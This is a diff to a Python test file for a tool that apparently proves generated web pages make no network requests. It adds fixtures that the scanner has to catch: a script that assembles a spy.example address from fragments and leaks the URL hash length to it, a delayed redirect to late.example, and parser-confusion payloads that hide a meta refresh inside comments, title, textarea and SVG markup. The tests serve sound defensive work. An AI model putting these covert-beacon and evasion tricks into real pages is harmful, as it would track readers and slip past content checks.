@@ -11,6 +11,7 @@ from itinerarium.cli import main
 from itinerarium.headless.chromium import find_chromium
 from itinerarium.offline import prove
 from itinerarium.offline.page import problems_of_page
+from itinerarium.offline.scan import scan
 from itinerarium.offline.visit import visit
 from itinerarium.page.html import content_security_policy
 from itinerarium.problems.report import to_text
@@ -36,7 +37,7 @@ def small_page(body: str = "", policy: str = POLICY, head: str = STYLE) -> str:
 
 
 def told(html: str) -> str:
-    return to_text(problems_of_page("index.html", html))
+    return to_text(problems_of_page("index.html", scan(html)))
 
 
 def first_lines(html: str) -> list[str]:
@@ -193,10 +194,12 @@ def test_the_command_says_that_a_finished_page_asks_nobody(
 def test_a_page_that_asks_in_secret_is_caught_in_the_act(
     page: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Its script makes the address from pieces, and waits for the reader to do something."""
+    """Its script makes addresses from pieces, and waits for the reader, or for half a minute."""
     spy = (
         "<script>addEventListener('hashchange', () => "
-        "fetch('https:' + '//spy.example/?' + location.hash.length))</script>"
+        "fetch('https:' + '//spy.example/?' + location.hash.length));"
+        "setTimeout(() => { location = 'https:' + '//late.example/'; }, 30_000)</script>"
+        "<svg><style><img src='only-browsers-see.png'></style></svg>"
     )
     start = page.index("<meta http-equiv")
     without_policy = page[:start] + page[page.index(">", start) + 1 :]
@@ -205,11 +208,62 @@ def test_a_page_that_asks_in_secret_is_caught_in_the_act(
     assert main(["build", "--check-only-offline", "--output", str(tmp_path)]) == 1
     said = capsys.readouterr()
     assert said.out.splitlines()[0] == f"{path}  makes requests"
-    assert [line for line in said.err.splitlines() if line.startswith("index.html")][:2] == [
-        "index.html P901 expected a content security policy as the first thing in the page, "
-        "instead got none",
-        'index.html P905 expected no request, instead got one to "https://spy.example/?5"',
-    ]
+    assert 'got <img src="only-browsers-see.png">' in said.err
+    assert 'got one to "https://late.example/"' in said.err
+    asked = [line for line in said.err.splitlines() if "spy.example" in line]
+    assert asked[0] == (
+        'index.html P905 expected no request, instead got one to "https://spy.example/?5"'
+    )
+
+
+@pytest.mark.browser
+def test_a_page_that_an_error_stops_is_never_said_to_make_no_request(
+    page: str, tmp_path: Path
+) -> None:
+    changed = page.replace("Itinerarium.createMap(", "Gone.createMap(")
+    html = with_own_policy(changed)
+    assert told(html) == ""
+    (tmp_path / "index.html").write_text(html, encoding="utf-8")
+    proof = prove(tmp_path / "index.html")
+    assert proof.lines[0].endswith("index.html  is broken")
+    assert [one.code for one in proof.problems] == ["P906"]
+    assert "Gone is not defined" in proof.problems[0].message
+
+
+def with_own_policy(html: str) -> str:
+    """A page whose policy names the scripts and styles that it now has."""
+    start = html.index('<meta http-equiv="Content-Security-Policy"')
+    end = html.index(">", start) + 1
+    bare = html[:start] + html[end:]
+    policy = content_security_policy(bare)
+    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
+    return html[:start] + meta + html[end:]
+
+
+@pytest.mark.parametrize("html", ["", "<p>Hello", small_page().replace(SCRIPT, "")])
+def test_a_page_without_a_script_is_broken(html: str, tmp_path: Path) -> None:
+    (tmp_path / "index.html").write_text(html, encoding="utf-8")
+    proof = prove(tmp_path / "index.html")
+    assert proof.lines == (f"{tmp_path / 'index.html'}  is broken",)
+    assert [one.code for one in proof.problems][-1] == "P906"
+
+
+REFRESH = '<meta http-equiv="refresh" content="0;url=//a.example">'
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        f"<!-->{REFRESH}<!-- -->",
+        f"<!-- --!>{REFRESH}<!-- -->",
+        f"<title><!--</title>{REFRESH}-->",
+        f"<textarea><script></textarea>{REFRESH}</script>",
+        REFRESH.replace("refresh", "refresh "),
+        REFRESH.replace("refresh", "Refresh"),
+    ],
+)
+def test_what_only_some_programs_see_is_found(body: str) -> None:
+    assert "P904" in told(small_page(body))
 
 
 @pytest.mark.browser
@@ -217,7 +271,7 @@ def test_a_script_that_the_policy_does_not_name_asks_for_nothing(page: str, tmp_
     spy = "<script>fetch('https://spy.example/')</script>"
     path = tmp_path / "index.html"
     path.write_text(page.replace("</body>", spy + "</body>"), encoding="utf-8")
-    assert visit(path, find_chromium())[0] == ()
+    assert visit(path, find_chromium()).requests == ()
 
 
 def test_a_page_that_is_not_there_is_one_line(
